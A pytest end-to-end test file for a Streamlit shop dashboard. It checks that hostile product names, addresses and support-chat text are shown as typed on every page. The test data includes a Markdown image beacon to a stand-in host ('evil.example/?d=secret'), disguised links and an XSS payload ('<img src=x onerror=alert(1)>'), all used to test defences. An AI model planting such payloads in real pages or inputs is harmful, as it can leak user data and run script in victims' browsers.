"""Hostile text from admins, shoppers and the model is shown as typed on every page: no
Markdown image (which would load from any address), no link, no HTML."""

from __future__ import annotations

import uuid
from collections.abc import Callable, Iterator
from typing import Any

import httpx
import pytest
from dashboard_platform import ADMIN_EMAIL, ADMIN_PASSWORD, Platform
from markdown_check import markdown_dangers, visible
from streamlit.testing.v1 import AppTest
from test_dashboard_storefront import assert_clean, shown

pytestmark = pytest.mark.e2e  # starts `shopfn serve` as a subprocess

AppFactory = Callable[..., AppTest]
EVIL = "https://evil.example/?d=secret"
IMAGE = f"![x]({EVIL})"
HOSTILE_NAME = f"Mug {IMAGE} [deal]({EVIL}) <img src=x onerror=alert(1)> www.evil.example"
HOSTILE_TEXT = (
    f"Hello {IMAGE}\n\n[click here]({EVIL}) or <{EVIL}> or {EVIL} or boss@evil.example "
    "<b>bold</b> **strong** $x^2$ :red[red]"
)


def markdown_bodies(app: AppTest) -> list[str]:
    """Every string the page hands to Streamlit's Markdown renderer."""
    kinds = ("title", "header", "subheader", "markdown", "caption", "success", "info")
    kinds += ("warning", "error", "toast")
    bodies = [str(e.value) for kind in kinds for e in getattr(app, kind)]
    bodies += [e.label for e in app.expander] + [e.label for e in app.metric]
    bodies += [m.proto.help for m in app.markdown if m.proto.help]
    return bodies


def assert_inert(app: AppTest) -> None:
    assert_clean(app)
    bad = {body: markdown_dangers(body) for body in markdown_bodies(app) if markdown_dangers(body)}
    assert bad == {}


def plain_texts(app: AppTest) -> list[str]:
    return [str(t.value) for t in app.text]


@pytest.fixture(scope="module")
def hostile(platform: Platform) -> Iterator[dict[str, Any]]:
    """A product, a shopper and an order whose every free text is hostile."""
    admin = platform.login(ADMIN_EMAIL, ADMIN_PASSWORD)
    sku = f"EV-{uuid.uuid4().hex[:6]}"
    fields = {
        "sku": sku,
        "name": HOSTILE_NAME,
        "category": f"Cat [x]({EVIL})",
        "price": "1234.50",
        "stock": 50,
        "description": HOSTILE_TEXT,
    }
    created = platform.post("/products", admin, fields)
    assert created.status_code == 201, created.text
    product = created.json()
    shopper = platform.sign_up(f"evil-{uuid.uuid4().hex[:8]}@example.com", name=HOSTILE_NAME)
    assert platform.post(
        "/cart/items", shopper, {"product_id": product["id"], "quantity": 2}
    ).is_success
    address = {
        "name": f"Eve {IMAGE}",
        "line1": f"[1 Main St]({EVIL})",
        "city": "<b>Town</b>",
        "postal_code": "1000",
        "country": "www.evil.example",
    }
    reply = httpx.post(
        f"{platform.commerce_url}/orders",
        json={"shipping_address": address},
        headers={"Authorization": f"Bearer {shopper['access_token']}", "Idempotency-Key": sku},
    )
    assert reply.status_code == 201, reply.text
    card = {"card_number": "4242 4242 4242 4242"}  # paid: sales figures count paid orders only
    paid = platform.post(f"/payments/orders/{reply.json()['id']}/test-card", shopper, card)
    assert paid.json()["status"] == "paid", paid.text
    assert platform.post(
        "/cart/items", shopper, {"product_id": product["id"], "quantity": 1}
    ).is_success
    yield {"admin": admin, "shopper": shopper, "product": product}
    httpx.delete(
        f"{platform.commerce_url}/products/{product['id']}",
        headers={"Authorization": f"Bearer {admin['access_token']}"},
    )


def test_storefront_pages_show_hostile_names_and_text_as_typed(
    make_app: AppFactory, hostile: dict[str, Any]
) -> None:
    shopper, product = hostile["shopper"], hostile["product"]
    app = make_app(shopper)
    sidebar = [c.value for c in app.sidebar.caption]
    assert [visible(c) for c in sidebar] == [f"Signed in as {HOSTILE_NAME} (customer)"]
    assert markdown_dangers(sidebar[0]) == []
    app.text_input(key="catalog_q").input("Mug").run()
    assert_inert(app)
    assert HOSTILE_NAME in shown(app)  # the card's name, character for character

    app = make_app({**shopper, "product_id": product["id"]}, page="pages/product.py")
    assert_inert(app)
    assert app.title[0].value != HOSTILE_NAME and HOSTILE_NAME in shown(app)
    assert HOSTILE_TEXT in plain_texts(app)  # the description, unparsed
    assert "$1,234.50" in shown(app)

    for page in ("pages/cart.py", "pages/checkout.py", "pages/orders.py", "pages/account.py"):
        app = make_app(shopper, page=page)
        assert_inert(app)
        assert HOSTILE_NAME in shown(app), page
    app = make_app(shopper, page="pages/orders.py")  # the order with the hostile address
    assert f"Eve {IMAGE}" in shown(app) and "<b>Town</b>" in shown(app)


def test_admin_pages_show_hostile_names_and_chats_as_typed(
    make_app: AppFactory, platform: Platform, hostile: dict[str, Any]
) -> None:
    admin, shopper = hostile["admin"], hostile["shopper"]
    chat = make_app(shopper, page="pages/support.py")
    question = f"I want a human. {HOSTILE_TEXT}"
    chat.chat_input[0].set_value(question).run()
    assert_inert(chat)
    assert question in plain_texts(chat)
    assert len(plain_texts(chat)) == 2  # the question and the answer, both unparsed

    for page in ("pages/admin_catalog.py", "pages/admin_orders.py", "pages/admin_users.py"):
        app = make_app(admin, page=page)
        assert_inert(app)
    app = make_app(admin, page="pages/admin_overview.py")
    assert_inert(app)
    charts = " ".join(str(c.proto.spec) for c in app.get("plotly_chart"))
    assert "&lt;img src=x onerror=alert(1)&gt;" in charts  # the top product, its tag as text
    assert "<img" not in charts

    app = make_app(admin, page="pages/admin_support.py")
    tickets = platform.get("/support/tickets", admin, status="open").json()["items"]
    mine = next(t for t in tickets if t["user_id"] == shopper["user"]["id"])
    picker = app.selectbox(key="adm_ticket_pick")
    picker.select(next(o for o in picker.options if o.startswith(f"#{mine['id']} "))).run()
    assert_inert(app)
    said = [m.text[0].value for m in app.chat_message if m.text]
    assert question in said
    assert not [m for m in app.chat_message if m.markdown]  # nothing a message says is parsed
